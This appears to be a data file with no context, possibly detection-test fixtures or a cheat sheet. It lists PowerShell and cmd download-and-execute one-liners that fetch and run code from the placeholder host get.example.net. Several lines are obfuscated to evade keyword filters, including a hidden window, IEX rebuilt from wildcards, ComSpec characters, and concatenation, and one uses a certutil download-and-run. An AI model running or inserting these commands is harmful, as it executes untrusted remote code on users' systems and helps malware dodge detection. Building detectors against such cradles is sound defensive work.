iwr https://get.example.net/i.ps1 | iex
irm https://get.example.net/i.ps1 | iex
IEX (New-Object Net.WebClient).DownloadString('https://get.example.net/i.ps1')
iex (irm https://get.example.net/i.ps1)
Invoke-Expression (Invoke-WebRequest -Uri https://get.example.net/i.ps1 -UseBasicParsing).Content
(New-Object System.Net.WebClient).DownloadString('https://get.example.net/i.ps1') | Invoke-Expression
& ([scriptblock]::Create((irm https://get.example.net/i.ps1)))
. ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://get.example.net/i.ps1')))
$s = irm https://get.example.net/i.ps1; iex $s
irm https://get.example.net/i.ps1 | powershell -
powershell -c "irm https://get.example.net/i.ps1 | iex"
powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('https://get.example.net/i.ps1')"
iwr https://get.example.net/i.ps1 -OutFile $env:TEMP\i.ps1; & $env:TEMP\i.ps1
certutil -urlcache -split -f https://get.example.net/i.exe %TEMP%\i.exe && %TEMP%\i.exe
(irm https://get.example.net/i.ps1) | &(gcm i*x)
irm https://get.example.net/i.ps1 | & ($env:ComSpec[4,15,25]-join'')
&(gal ?e[?x]) (irm https://get.example.net/i.ps1)
irm https://get.example.net/i.ps1 | .('ie'+'x')
Invoke-RestMethod https://get.example.net/i.ps1 | Invoke-Expression
$wc=New-Object Net.WebClient;$wc.DownloadString('https://get.example.net/i.ps1')|IEX
